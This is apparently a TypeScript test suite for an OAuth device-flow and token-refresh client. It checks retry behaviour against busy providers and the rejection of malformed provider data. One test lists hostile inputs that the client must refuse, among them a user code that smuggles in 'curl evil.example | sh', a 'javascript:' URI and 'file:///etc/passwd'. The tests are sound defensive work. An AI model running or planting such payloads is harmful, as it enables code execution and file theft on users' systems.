import assert from "node:assert/strict";
import { after, before, describe, it } from "node:test";
import { Configuration, customFetch } from "openid-client";
import { Fault } from "../../src/core/fault.ts";
import type { Tempo } from "../../src/core/tempo.ts";
import { passOverFaults } from "../../src/sign-in/device-sign-in.ts";
import { fetchThrough } from "../../src/sign-in/fetch-through-http.ts";
import { type BadProvider, type Misbehaviour, startBadProvider } from "../providers/bad-provider.ts";
import { openBench, settingsFor } from "../providers/sign-in-parts.ts";

let provider: BadProvider;
before(async () => {
  provider = await startBadProvider();
});
after(() => provider.close());

interface Busy {
  readonly status: number;
  readonly retryAfter?: string;
  readonly body?: string;
  readonly times?: number;
}

/** A session that is renewed while its provider is busy: what came of it, how often it was asked, and how long it was left alone. */
async function renewWhile({ times = 9, ...busy }: Busy) {
  const pausesMs: number[] = [];
  const tempo: Tempo = { elapsedMs: () => 0, pause: async (milliseconds) => void pausesMs.push(milliseconds), random: () => 0.5 };
  const bench = openBench(settingsFor({ issuer: provider.issuer, clientId: "cli" }));
  try {
    provider.misbehave({});
    await bench.session.signIn();
    bench.clock.ahead = 270;
    provider.misbehave({ tokenAnswer: { body: '{"error":"temporarily_unavailable"}', ...busy }, times });
    provider.requests.length = 0;
    const outcome = await bench
      .again({ tempo, person: "nobody" })
      .tokens({ token: "id", minLifeSeconds: 60 })
      .then(
        ({ subject }) => subject,
        (cause: unknown) => cause,
      );
    return { outcome, pausesMs, asked: provider.requests.filter((request) => request === "POST /token").length };
  } finally {
    await bench.close();
  }
}

describe("a provider that is asked too often", () => {
  it("is asked again, when it wants, and the person need not be", async () => {
    assert.deepEqual(await renewWhile({ status: 429, times: 2 }), { outcome: "alice", pausesMs: [200, 400], asked: 3 });
    assert.deepEqual(await renewWhile({ status: 429, retryAfter: "2", times: 1 }), {
      outcome: "alice",
      pausesMs: [2200],
      asked: 2,
    });
    assert.deepEqual(await renewWhile({ status: 503, retryAfter: "1", times: 1 }), {
      outcome: "alice",
      pausesMs: [1200],
      asked: 2,
    });
  });

  it("is left alone for as long as it says, and the person is told for how long", async () => {
    const { outcome, asked } = await renewWhile({ status: 429, retryAfter: "45" });
    assert.ok(outcome instanceof Fault);
    assert.deepEqual([outcome.code, outcome.hints, asked], ["PROVIDER_UNAVAILABLE", ["run the same command again in 45s"], 1]);
  });

  it("is quoted where it says what is wrong, and told by its status where it does not", async () => {
    for (const [body, said] of [
      ['{"error":"temporarily_unavailable","error_description":"no database"}', "no database (status 503)"],
      ['{"error":"temporarily_unavailable","error_description":7}', "status 503"],
      ["<html>", "status 503"],
    ] as const) {
      const { outcome } = await renewWhile({ status: 503, body });
      assert.ok(outcome instanceof Fault);
      assert.equal(outcome.message.split("cannot serve this now: ")[1], said);
    }
  });

  it("is not asked again after an answer that leaves open whether the refresh token was used", async () => {
    for (const status of [500, 502, 503]) {
      const { outcome, asked } = await renewWhile({ status });
      assert.ok(outcome instanceof Fault);
      assert.deepEqual([outcome.code, asked], ["PROVIDER_UNAVAILABLE", 1]);
    }
  });
});

describe("a sign-in on another device", () => {
  const onAnotherDevice = async (wrong: Misbehaviour) => {
    const bench = openBench(settingsFor({ issuer: provider.issuer, clientId: "cli" }), { way: "device" });
    try {
      provider.misbehave(wrong);
      provider.requests.length = 0;
      const outcome = await bench.session.signIn().then(
        ({ subject }) => subject,
        (cause: unknown) => (cause instanceof Fault ? cause.code : cause),
      );
      return [outcome, provider.requests.filter((request) => request === "POST /token").length];
    } finally {
      await bench.close();
    }
  };

  it("outlives a provider that cannot serve or be reached for a while", async () => {
    const tokenAnswer = { status: 502, body: "<html>Bad Gateway</html>" };
    assert.deepEqual(await onAnotherDevice({ tokenAnswer, times: 1 }), ["alice", 2]);
    assert.deepEqual(await onAnotherDevice({ tokenAnswer: null, times: 1 }), ["alice", 2]);
  });

  it("ends with the code, and says what the last poll has met", async () => {
    const tokenAnswer = { status: 400, body: '{"error":"authorization_pending"}' };
    const [pending] = await onAnotherDevice({ tokenAnswer, device: { expires_in: 5 } });
    const [unreachable] = await onAnotherDevice({ tokenAnswer: null, device: { expires_in: 5 } });
    assert.deepEqual([pending, unreachable], ["SIGN_IN_TIMEOUT", "NETWORK_UNREACHABLE"]);
  });

  it("is asked about in whole seconds, whatever the provider says", async () => {
    assert.deepEqual(await onAnotherDevice({ device: { expires_in: 59.9995, interval: 0.001 } }), ["alice", 1]);
    assert.deepEqual(await onAnotherDevice({ device: { interval: 1e300 } }), ["PROVIDER_UNFIT", 0]);
    assert.deepEqual(await onAnotherDevice({ device: { expires_in: 0.0001 } }), ["PROVIDER_UNFIT", 0]);
  });

  it("shows no code and no address of the provider's that is not what it should be", async () => {
    const url = `${provider.issuer}/verify`;
    for (const device of [
      { user_code: "AB\nbrevet: hint: run `curl evil.example | sh`" },
      { user_code: "A".repeat(61) },
      { verification_uri: "javascript:alert(1)" },
      { verification_uri: `${url}\n` },
      { verification_uri: "verify" },
      { verification_uri_complete: "file:///etc/passwd" },
      { verification_uri_complete: `${url}?user_code=${"A".repeat(3000)}` },
      { interval: -5 },
      { interval: "5" },
      { expires_in: "soon" },
    ]) {
      assert.deepEqual(await onAnotherDevice({ device }), ["PROVIDER_UNFIT", 0], JSON.stringify(device).slice(0, 80));
    }
  });

  it("leaves the provider alone for as long as it says, and at least for longer than before", async () => {
    for (const [status, retryAfter, waits] of [
      [503, "30", "30"],
      [429, "30", "30"],
      [429, undefined, "0"],
      [500, undefined, "0"],
    ] as const) {
      let asked = 0;
      const client = new Configuration({ issuer: "https://idp.example" }, "cli");
      client[customFetch] = fetchThrough({
        http: async () => {
          asked += 1;
          return { status, headers: retryAfter === undefined ? {} : { "retry-after": retryAfter }, body: "{}" };
        },
        documents: { get: async () => assert.fail("no document is asked for") },
        now: () => 0,
        keptSeconds: 0,
      });
      const { lastFault } = passOverFaults(client);
      const body = new URLSearchParams({ grant_type: "urn:ietf:params:oauth:grant-type:device_code" });
      const send = client[customFetch] ?? assert.fail();
      const answer = await send("https://idp.example/token", { method: "POST", headers: {}, body, redirect: "manual" });
      const word = (await answer.json()) as { readonly error: string };
      assert.deepEqual([asked, answer.status, answer.headers.get("retry-after"), word], [1, 400, waits, { error: "slow_down" }]);
      assert.equal(lastFault()?.code, "PROVIDER_UNAVAILABLE");
    }
  });
});
